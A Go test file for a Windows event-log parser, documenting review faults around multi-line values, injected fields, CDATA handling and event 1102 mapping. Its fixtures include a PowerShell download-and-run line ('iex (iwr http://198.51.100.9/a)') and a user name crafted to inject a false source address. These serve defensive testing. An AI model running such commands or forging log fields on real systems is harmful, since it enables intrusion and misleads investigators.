package parse

// Fault tests from a review of 5562fd6 (Windows events sent as text): each
// failed before the fix of the fault it describes (the comments describe
// the code as it was found). TestClassicInjectedSectionRelabels' fix: a
// member the classic message shows twice is not written at all.

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/valyala/fastjson"
)

// eventDataValues returns every value written under winlog.event_data.key
// in out, duplicates included (fastjson and normalize keep only one of
// them, which hides a second one).
func eventDataValues(t *testing.T, out []byte, key string) []string {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(out))
	var path []string // keys of the open objects
	var vals []string
	var pending string // the key whose value comes next
	expectKey := []bool{}
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		inObj := len(expectKey) > 0 && expectKey[len(expectKey)-1]
		switch v := tok.(type) {
		case json.Delim:
			switch v {
			case '{':
				path = append(path, pending)
				expectKey = append(expectKey, true)
			case '[':
				path = append(path, pending)
				expectKey = append(expectKey, false)
			case '}', ']':
				path = path[:len(path)-1]
				expectKey = expectKey[:len(expectKey)-1]
			}
			pending = ""
		case string:
			if inObj && dec.More() && pending == "" {
				pending = v
				continue
			}
			if strings.Join(path, ".") == ".winlog.event_data" && pending == key {
				vals = append(vals, v)
			}
			pending = ""
		default:
			pending = ""
		}
	}
	return vals
}

// TestClassicContinuationLinesDropped: classicData reads each line
// on its own: one without a colon is skipped as "a continuation (the
// privileges of a 4672) or prose", one with a colon is taken for a label
// of its own, so a value that Windows renders over several lines keeps its
// first line only. What I did: a 4672 (special privileges assigned to a new logon) in
// Splunk's classic rendering, its privileges one per line as Windows
// renders them, and a 4688 whose command line spans two lines. What
// happens: winlog.event_data.PrivilegeList is "SeAssignPrimaryTokenPrivilege"
// (SeTcbPrivilege and SeDebugPrivilege are gone) and CommandLine is the
// first line of the command only. What should happen: the whole value, as
// the event's XML (and Winlogbeat) carries it in PrivilegeList and
// CommandLine. Why it matters: "which logon got SeDebugPrivilege" is a
// standard hunt on 4672 (PrivilegeList is renamed into
// winlog.event_data.PrivilegeList for exactly that), and a command line
// whose payload sits on its second line reaches process.command_line as
// its harmless first line: the detections never see the payload.
func TestClassicContinuationLinesDropped(t *testing.T) {
	tests := []struct {
		name, msg, key, want string
	}{
		{"4672 PrivilegeList",
			"LogName=Security\r\nEventCode=4672\r\nMessage=Special privileges assigned to new logon.\r\n\r\n" +
				"Subject:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1104\r\n\tAccount Name:\t\ttgarcia\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x51C2E7\r\n\r\n" +
				"Privileges:\t\tSeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeDebugPrivilege\r\n",
			"PrivilegeList", "SeDebugPrivilege"},
		{"4688 CommandLine on two lines",
			"LogName=Security\r\nEventCode=4688\r\nMessage=A new process has been created.\r\n\r\n" +
				"Creator Subject:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1013\r\n\tAccount Name:\t\tmrivera\r\n\r\n" +
				"Process Information:\r\n\tNew Process ID:\t\t0x1a2c\r\n\tNew Process Name:\tC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n" +
				"\tCreator Process ID:\t0x19c4\r\n\tCreator Process Name:\tC:\\Windows\\explorer.exe\r\n" +
				"\tProcess Command Line:\tpowershell.exe -c \"Write-Host hello\r\niex (iwr http://198.51.100.9/a)\"\r\n",
			"CommandLine", "iwr http://198.51.100.9/a"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := newTestParser()
			msg := []byte(tc.msg)
			out, res := p.AppendJSON(nil, msg)
			checkOutput(t, p, msg, out, res)
			if res.Format != FormatWinClassic {
				t.Fatalf("not parsed as the classic form: %s", out)
			}
			v, err := fastjson.ParseBytes(out)
			if err != nil {
				t.Fatal(err)
			}
			got := string(v.GetStringBytes("winlog", "event_data", tc.key))
			if !strings.Contains(got, tc.want) {
				t.Errorf("winlog.event_data.%s = %q, want the whole value (with %q)\n%s", tc.key, got, tc.want, out)
			}
		})
	}
}

// TestClassicInjectedSectionRelabels: the classic message is free
// text in which the values are not escaped, and classicData takes every
// "section / label: value" line it finds, a key seen twice included. What
// I did: a 4625 (failed logon) whose Account Name, the user name the
// client sent (NTLM, Kerberos AS-REQ: the attacker's choice), carries
// "\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t10.0.0.5".
// What happens: event_data gets IpAddress twice, the injected 10.0.0.5
// first and the real 203.0.113.50 second; normalize keeps the first
// (router explain --sourcetype WinEventLog on the same event shows
// source.ip 10.0.0.5, and user.domain is gone: Account Domain now falls in
// the injected section). What should happen: the injected address is never
// the event's IpAddress (a key the message shows twice is ambiguous: not
// taken, or taken from where the template puts it). Why it matters: the
// source of a password spray or brute force is what a SOC blocks and
// hunts on; here the attacker chooses it (an internal address, a
// colleague's workstation) in the very event that records the attack.
func TestClassicInjectedSectionRelabels(t *testing.T) {
	user := "admin\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t10.0.0.5"
	msg := []byte("LogName=Security\r\nEventCode=4625\r\nComputerName=DC01.corp.example.com\r\nKeywords=Audit Failure\r\n" +
		"Message=An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\n" +
		"Logon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t" + user + "\r\n\tAccount Domain:\t\tCORP\r\n\r\n" +
		"Failure Information:\r\n\tFailure Reason:\t\tUnknown user name or bad password.\r\n\tStatus:\t\t\t0xC000006D\r\n\tSub Status:\t\t0xC0000064\r\n\r\n" +
		"Process Information:\r\n\tCaller Process ID:\t0x0\r\n\tCaller Process Name:\t-\r\n\r\n" +
		"Network Information:\r\n\tWorkstation Name:\tKALI\r\n\tSource Network Address:\t203.0.113.50\r\n\tSource Port:\t\t0\r\n\r\n" +
		"Detailed Authentication Information:\r\n\tLogon Process:\t\tNtLmSsp \r\n\tAuthentication Package:\tNTLM\r\n")
	p := newTestParser()
	out, res := p.AppendJSON(nil, msg)
	checkOutput(t, p, msg, out, res)
	if res.Format != FormatWinClassic {
		t.Fatalf("not parsed as the classic form: %s", out)
	}
	for _, v := range eventDataValues(t, out, "IpAddress") {
		if v == "10.0.0.5" {
			t.Errorf("winlog.event_data.IpAddress %q comes from the user name the client sent (all: %q)\n%s",
				v, eventDataValues(t, out, "IpAddress"), out)
		}
	}
}

// TestXMLTextAfterCDATAOrComment: parseWinXML takes an element's
// text up to the first markup inside it and then stops listening (text =
// -1 after any text, CDATA section or comment), although the commit
// says the scanner handles CDATA and comments. What I did: Data values
// made of text and a CDATA section, a CDATA section indented on its own
// line (pretty-printed XML), and text around a comment. What happens: "pre"
// instead of "pre<b>post", nothing at all for the indented CDATA (the
// white space before it took the element's turn and was dropped as
// indentation), "a" instead of "ab". What should happen: the element's
// character data, as any XML reader gives it (encoding/xml reads
// "pre<b>post", "cmd.exe /c <x>" and "ab"). Why it matters: the value is
// silently cut or lost, and the message (the XML) is removed once parsed,
// so nothing is left to find it in.
func TestXMLTextAfterCDATAOrComment(t *testing.T) {
	tests := []struct{ name, data, want string }{
		{"text, CDATA, text", `pre<![CDATA[<b>]]>post`, "pre<b>post"},
		{"indented CDATA", "\n    <![CDATA[cmd.exe /c <x>]]>\n  ", "cmd.exe /c <x>"},
		{"text around a comment", `a<!-- c -->b`, "ab"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			msg := []byte(`<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><EventID>1</EventID>` +
				`<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData><Data Name="CommandLine">` +
				tc.data + `</Data><Data Name="User">CORP\mrivera</Data></EventData></Event>`)
			p := newTestParser()
			out, res := p.AppendJSON(nil, msg)
			checkOutput(t, p, msg, out, res)
			if res.Format != FormatWinXML {
				t.Fatalf("not parsed as XML: %s", out)
			}
			v, _ := fastjson.ParseBytes(out)
			got := v.Get("winlog", "event_data", "CommandLine")
			if got == nil || strings.TrimSpace(string(got.GetStringBytes())) != tc.want {
				t.Errorf("CommandLine = %v, want %q\n%s", got, tc.want, out)
			}
		})
	}
}

// The review's TestXMLUnescapeQuadratic (unescapeXML looked for the ';'
// of every '&' over the whole rest of the value: 512 KiB of '&' took
// 3.8 s) is the "xml many ampersands" input of TestPathological, which
// bounds time absolutely instead of by a ratio of two short runs.

// TestClassic1102SubjectNotWhereXMLPutsIt: 1102 (the Security log
// was cleared) carries who cleared it in UserData/LogFileCleared, which
// parseWinXML writes as winlog.user_data.SubjectUserName (the golden
// corpus, the rules test "keeps who cleared it (UserData)"). The classic
// rendering of the same event shows it under "Subject:", which classicData
// maps to winlog.event_data.SubjectUserName for every event. What I did:
// the same 1102 in both forms. What happens: XML gives
// winlog.user_data.SubjectUserName "tgarcia", classic gives
// winlog.event_data.SubjectUserName and no user_data (and 1102's "Domain
// Name:" label is in no table: SubjectDomainName is lost). What should happen:
// the same field as the XML (winlogbeat's), as the commit and
// winclassic.go promise ("so that the rules and profiles see the same
// fields as from XmlWinEventLog or Winlogbeat"). Why it matters: the
// search or rule for "who cleared the audit log" (a top anti-forensics
// signal) built on Winlogbeat's or the XML's field misses every event
// that came in as WinEventLog.
func TestClassic1102SubjectNotWhereXMLPutsIt(t *testing.T) {
	forms := map[string]string{
		"xml": `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog"/><EventID>1102</EventID><Channel>Security</Channel><Computer>DC01.corp.example.com</Computer></System>` +
			`<UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-1-2-3-1104</SubjectUserSid><SubjectUserName>tgarcia</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x51c2e7</SubjectLogonId></LogFileCleared></UserData></Event>`,
		"classic": "LogName=Security\r\nEventCode=1102\r\nComputerName=DC01.corp.example.com\r\nSourceName=Microsoft-Windows-Eventlog\r\nType=Information\r\nKeywords=Audit Success\r\nTaskCategory=Log clear\r\n" +
			"Message=The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-2-3-1104\r\n\tAccount Name:\ttgarcia\r\n\tDomain Name:\tCORP\r\n\tLogon ID:\t0x51C2E7\r\n",
	}
	for name, m := range forms {
		p := newTestParser()
		msg := []byte(m)
		out, res := p.AppendJSON(nil, msg)
		checkOutput(t, p, msg, out, res)
		v, _ := fastjson.ParseBytes(out)
		if got := string(v.GetStringBytes("winlog", "user_data", "SubjectUserName")); got != "tgarcia" {
			t.Errorf("%s: winlog.user_data.SubjectUserName = %q, want \"tgarcia\" in both forms\n%s", name, got, out)
		}
	}
}
